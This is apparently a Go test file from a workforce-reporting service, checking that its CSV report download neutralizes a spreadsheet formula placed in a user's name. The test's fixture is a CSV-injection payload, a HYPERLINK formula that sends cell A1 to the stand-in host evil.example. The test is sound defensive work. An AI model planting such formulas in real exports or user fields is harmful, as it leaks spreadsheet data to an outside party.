package report

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/workpulse/workpulse/services/platform/authn"
	"github.com/workpulse/workpulse/test/testkit"
)

func TestCSVDownloadNeutralizesAFormulaName(t *testing.T) {
	f := newFixture(t)
	mallory := testkit.Member(f.admin.OrganizationID, authn.RoleEmployee)
	const name = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	f.user(f.admin.OrganizationID, mallory.UserID, name)
	f.seedSummary(mallory, "2026-05-04", 100, 0)

	r := f.do("GET", "/api/reports/organization?startDate=2026-05-04&endDate=2026-05-04&format=csv", &f.admin, "")
	recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if r.status != 200 || err != nil || len(recs) != 2 {
		t.Fatalf("got %d %q %v", r.status, recs, err)
	}
	if got := recs[1][2]; got != "'"+name {
		t.Errorf("user_name cell %q, want it neutralized", got)
	}
}
